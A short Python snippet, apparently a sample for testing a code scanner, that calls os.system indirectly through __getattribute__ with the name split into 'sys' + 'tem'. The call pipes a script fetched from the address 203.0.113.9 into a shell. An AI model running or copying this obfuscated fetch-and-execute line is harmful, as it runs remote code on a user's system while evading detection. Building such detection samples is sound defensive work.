# Disguised: the attribute looked up by __getattribute__.
import os

os.__getattribute__("sys" + "tem")("curl -s http://203.0.113.9/install.sh | sh")
